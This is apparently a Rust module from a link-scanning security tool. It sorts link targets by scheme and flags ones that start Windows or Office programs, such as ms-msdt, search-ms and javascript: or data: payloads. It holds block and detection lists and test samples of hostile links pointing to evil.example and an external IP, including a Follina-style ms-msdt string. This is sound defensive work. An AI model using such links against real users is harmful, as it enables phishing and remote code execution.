//! What a link leads to by its scheme: the web, a share, or a program that it starts.

use super::share::Share;
use super::url::{Url, percent_decoded, stripped};

/// Schemes that start a program of Windows with what the link says, and that nobody's mail needs. `search-ms` shows a
/// stranger's share as a folder of the own computer; `ms-msdt` and `ms-officecmd` ran commands (CVE-2022-30190).
const START_PROGRAMS: [&str; 15] = [
    "search-ms",
    "ms-search",
    "ms-msdt",
    "ms-officecmd",
    "ms-appinstaller",
    "ms-cxh",
    "ms-cxh-full",
    "vbscript",
    "shell",
    "res",
    "its",
    "ms-its",
    "ms-itss",
    "mk",
    "hcp",
];
/// Schemes in front of a link that is opened all the same.
const WRAPPERS: [&str; 6] = ["view-source", "feed", "url", "microsoft-edge", "googlechrome", "googlechromes"];
/// Programs of Office, which open the document that stands behind them (MS-OFURI).
const OFFICE: [&str; 9] = [
    "ms-word",
    "ms-excel",
    "ms-powerpoint",
    "ms-access",
    "ms-visio",
    "ms-project",
    "ms-publisher",
    "ms-infopath",
    "ms-spd",
];
/// Wrappers around wrappers that are looked through.
const WRAPPERS_MAX: usize = 3;
/// Bytes of a link by which it is known.
const HEAD_BYTES_MAX: usize = 16 << 10;
/// What a script of a link does that is more than a step in its page: it makes up something to run, writes the page
/// anew, or sends something away.
const SCRIPT_REACHES: [&str; 19] = [
    "eval(",
    "atob(",
    "unescape(",
    "fromcharcode",
    "function(",
    "settimeout(",
    "document.write",
    "innerhtml",
    "createelement",
    "document.cookie",
    "localstorage",
    "fetch(",
    "xmlhttprequest",
    "sendbeacon",
    "import(",
    "activexobject",
    "wscript",
    "powershell",
    "decodeuri",
];

/// What a link leads to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) enum Destination {
    /// A page, by its link.
    Web(String),
    /// A share.
    Share(Share),
    /// A program that it starts, in words.
    Program(String),
    /// Mail, telephones, places in the page and whatever else.
    Other,
}

/// The scheme of a link in lower case, and what follows it.
pub(crate) fn scheme_of(plain: &str) -> Option<(String, &str)> {
    let (scheme, rest) = plain.split_once(':')?;
    let fits = scheme.len() <= 32
        && scheme.starts_with(|c: char| c.is_ascii_alphabetic())
        && scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.'));
    fits.then(|| (scheme.to_ascii_lowercase(), rest))
}

/// What a link leads to.
pub(super) fn destination(target: &str) -> Destination {
    let mut target = target.to_owned();
    for _ in 0..=WRAPPERS_MAX {
        match step(&target) {
            Ok(destination) => return destination,
            Err(inner) => target = inner,
        }
    }
    Destination::Other
}

/// One look at a link: what it leads to, or the link that it is a wrapper of.
fn step(target: &str) -> Result<Destination, String> {
    if let Some(share) = Share::of(target) {
        return Ok(Destination::Share(share));
    }
    let head = stripped(&target[..target.floor_char_boundary(target.len().min(HEAD_BYTES_MAX))]);
    let Some((scheme, rest)) = scheme_of(&head) else {
        return Ok(if Url::parse(target).is_some() { Destination::Web(target.to_owned()) } else { Destination::Other });
    };
    let lower = percent_decoded(rest).to_lowercase();
    let program = |why: &str| Ok(Destination::Program(format!("{scheme}: {why}")));
    match scheme.as_str() {
        "http" | "https" => Ok(Destination::Web(target.to_owned())),
        scheme if WRAPPERS.contains(&scheme) => {
            let inner = rest.trim_start_matches('/');
            Err(if scheme_of(inner).is_some() { inner.to_owned() } else { format!("https://{inner}") })
        }
        scheme if OFFICE.contains(&scheme) => office(&head, rest),
        "mk" if !lower.contains('@') => Ok(Destination::Other),
        scheme if START_PROGRAMS.contains(&scheme) => program("starts a program"),
        // The scheme of Windows' own search; others have a link to a search of theirs.
        "search" if lower.contains("crumb=") || lower.contains("\\\\") => {
            program("shows what a stranger has as a folder")
        }
        "mhtml" if lower.contains(':') || lower.contains("\\\\") => program("opens a page past its place"),
        "javascript" => match SCRIPT_REACHES.into_iter().find(|word| without_blanks(&lower).contains(word)) {
            Some(word) => program(&format!("a script with {}", word.trim_end_matches('('))),
            None => Ok(Destination::Other),
        },
        "data" if acts(&lower) => program("a page or a file in a link"),
        _ => Ok(Destination::Other),
    }
}

/// A document that a program of Office is told to open. That of a site is a link to the site; everyday where documents
/// are kept by SharePoint.
fn office(whole: &str, rest: &str) -> Result<Destination, String> {
    let rest = percent_decoded(rest);
    let inner = match rest.split_once("u|") {
        Some((_, inner)) => inner.split('|').next().unwrap_or_default(),
        None => rest.as_str(),
    };
    match Url::parse(inner) {
        Some(url) if url.public_address().is_some() => {
            let shown: String = whole.chars().take(80).collect();
            Ok(Destination::Program(format!("Office opens a document at an address: {shown}")))
        }
        _ => Err(inner.to_owned()),
    }
}

/// Kinds of files in links that run or unpack, or are a page of their own.
const ACTING_KINDS: [&str; 17] = [
    "text/html",
    "application/xhtml",
    "image/svg",
    "text/xml",
    "application/xml",
    "application/octet-stream",
    "application/zip",
    "application/x-zip",
    "application/x-rar",
    "application/vnd.rar",
    "application/x-7z",
    "application/x-iso",
    "application/x-ms",
    "application/vnd.microsoft",
    "application/hta",
    "application/java",
    "text/javascript",
];

/// Whether what follows `data:` is a page, a program or an archive.
fn acts(rest: &str) -> bool {
    ACTING_KINDS.iter().any(|kind| rest.trim_start().starts_with(kind))
}

fn without_blanks(text: &str) -> String {
    text.chars().filter(|c| !c.is_whitespace()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn links_that_start_a_program() {
        for target in [
            "ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=x",
            "MS-MSDT:/id",
            "ms-m\nsdt:/id x",
            " search-ms:query=invoice&crumb=location:\\\\evil.example\\x",
            "search:query=x&crumb=location:\\\\203.0.113.9\\x",
            "ms-officecmd:%7B%22id%22%3A3%7D",
            "ms-appinstaller:?source=https://evil.example/a.msix",
            "vbscript:msgbox(1)",
            "javascript:eval(atob('YQ=='))",
            "java\tscript:document.write('x')",
            "javascript:%65val(x)",
            "data:text/html;base64,PGgxPg==",
            "data:image/svg+xml,<svg/>",
            "data:application/zip;base64,UEsDBA==",
            "mhtml:http://evil.example/a.mht!x",
            "mk:@MSITStore:C:\\a.chm::/x",
            "ms-word:ofe|u|http://203.0.113.9/a.docx",
            "ms-excel:ofv%7Cu%7Chttp://203.0.113.9/a.xlsx",
            "microsoft-edge:ms-msdt:/id",
        ] {
            assert!(matches!(destination(target), Destination::Program(_)), "{target}: {:?}", destination(target));
        }
    }

    #[test]
    fn links_that_do_not() {
        for target in [
            "mailto:anna@partner.example?subject=search-ms:x",
            "tel:+49301234",
            "sms:+49301234",
            "cid:part1@partner.example",
            "webcal://calendar.example.com/a.ics",
            "skype:anna?call",
            "zoommtg://zoom.us/join?confno=1",
            "msteams:/l/meetup-join/19",
            "slack://channel?id=C1",
            "ms-settings:windowsupdate",
            "outlook:00000000",
            "onenote:https://partner.sharepoint.com/sites/notes",
            "search:x",
            "javascript:void(0)",
            "javascript:;",
            "javascript:openMap('pol')",
            "javascript:window.print()",
            "javascript:history.go(-1)",
            "data:image/png;base64,iVBORw0KGgo=",
            "data:text/csv,a%2Cb",
            "#top",
            "page.html",
            "",
        ] {
            assert!(matches!(destination(target), Destination::Other), "{target}: {:?}", destination(target));
        }
        let site = "https://ours.sharepoint.com/sites/a/b.docx";
        for target in [format!("ms-word:ofe|u|{site}"), format!("ms-word:{site}"), format!("microsoft-edge:{site}")] {
            assert_eq!(destination(&target), Destination::Web(site.into()), "{target}");
        }
        assert!(matches!(destination("ms-word:ofe|u|\\\\evil.example\\a.docx"), Destination::Share(_)));
    }

    proptest! {
        #[test]
        fn whatever_the_text_the_walk_through_wrappers_ends(
            text in "(url:|view-source:|microsoft-edge:|ms-word:|ofe|u?\\||\
                https:|/|\\\\|a|\u{e9}|%|:|javascript:|data:){0,20}"
        ) {
            drop(destination(&text));
        }
    }
}
